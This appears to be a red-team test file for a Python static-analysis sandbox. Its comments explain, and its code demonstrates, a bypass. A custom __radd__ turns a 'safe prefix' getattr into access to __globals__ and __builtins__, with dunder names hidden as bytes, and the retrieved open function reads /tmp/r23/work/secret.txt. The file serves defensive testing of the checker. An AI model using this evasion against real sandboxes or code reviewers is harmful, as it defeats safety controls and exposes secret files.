# family: red team, round 23 (special cases: prefixes, future annotations, exit types, library base stores)
# getattr(obj, "visit_" + kind) is accepted as a "safe prefix" dynamic name (dynamic_names._safe_dynamic_name),
# but "visit_" + kind calls kind.__radd__ when kind is not a str: a tool class's __radd__ returns any
# name (built at run time), so getattr reads __globals__ and then the builtins' open.
class Kind:
    def __init__(self, text):
        self.text = text

    def __radd__(self, other):
        return self.text


def handler():
    return 1


def entry():
    dunder = bytes([95, 95]).decode()
    g = getattr(handler, "visit_" + Kind(dunder + "globals" + dunder))
    print(sorted(g.keys()))
    b = g[dunder + "builtins" + dunder]
    opener = getattr(b, "visit_" + Kind("open")) if not isinstance(b, dict) else b["open"]
    with opener("/tmp/r23/work/secret.txt") as fh:
        print(fh.read())


entry()
